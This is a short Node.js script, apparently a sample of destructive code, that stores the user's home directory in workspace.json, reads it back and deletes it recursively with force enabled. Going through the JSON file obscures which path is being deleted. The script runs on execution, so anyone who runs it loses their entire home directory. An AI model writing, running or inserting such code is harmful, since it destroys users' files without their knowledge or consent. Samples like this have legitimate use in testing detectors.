// Deletes the home directory: a defaults() function returns an object
// holding the home; it is written to a JSON file, read back by a loader
// function, and its `root` removed recursively.
'use strict';
const fs = require('fs');
const os = require('os');

const FILE = 'workspace.json';
function defaults() {
  return { root: os.homedir(), keep: 3 };
}
function load() {
  if (!fs.existsSync(FILE)) fs.writeFileSync(FILE, JSON.stringify(defaults()));
  return JSON.parse(fs.readFileSync(FILE, 'utf8'));
}
function purge(ws) {
  fs.rmSync(ws.root, { recursive: true, force: true });
}
purge(load());
